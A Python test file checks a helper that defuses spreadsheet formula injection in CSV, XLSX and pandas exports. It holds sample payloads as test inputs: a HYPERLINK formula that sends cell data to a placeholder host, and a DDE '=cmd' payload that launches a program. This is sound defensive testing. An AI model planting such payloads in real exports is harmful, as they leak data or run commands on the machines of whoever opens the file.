import csv
import io

import pandas as pd
from openpyxl import Workbook, load_workbook

from analytics.spreadsheet_safety import neutralise_formula, neutralise_frame, neutralise_rows


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_prefixed_with_an_apostrophe():
    for dangerous in ['=HYPERLINK("http://x/?"&A1)', "+84 912 345 678", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]:
        assert neutralise_formula(dangerous) == "'" + dangerous


def test_ordinary_text_numbers_and_empty_values_are_left_exactly_as_they_are():
    for value in ["Ấp Phú Dũng", "", "a=b", " =1", -5, 3.5, None, True]:
        assert neutralise_formula(value) == value


def test_a_csv_export_opens_with_the_formula_as_text():
    out = io.StringIO()
    csv.writer(out).writerows(neutralise_rows([["ten", "ghi_chu"], ["Nguyễn Văn Hùng", "=1+1"]]))
    assert out.getvalue().splitlines()[1] == "Nguyễn Văn Hùng,'=1+1"


def test_an_xlsx_export_stores_the_cell_as_a_string_not_a_formula():
    workbook = Workbook()
    for row in neutralise_rows([["ghi_chu"], ["=cmd|' /C calc'!A0"]]):
        workbook.active.append(row)
    data = io.BytesIO()
    workbook.save(data)
    cell = load_workbook(io.BytesIO(data.getvalue())).active["A2"]
    assert cell.data_type == "s" and cell.value == "'=cmd|' /C calc'!A0"


def test_a_dataframe_is_neutralised_cell_by_cell_and_column_names_too():
    frame = pd.DataFrame({"ghi_chu": ["@x", "ok"], "=so": [-1, 2]})
    safe = neutralise_frame(frame)
    assert list(safe.columns) == ["ghi_chu", "'=so"]
    assert safe["ghi_chu"].tolist() == ["'@x", "ok"] and safe["'=so"].tolist() == [-1, 2]
    assert frame["ghi_chu"].tolist() == ["@x", "ok"]
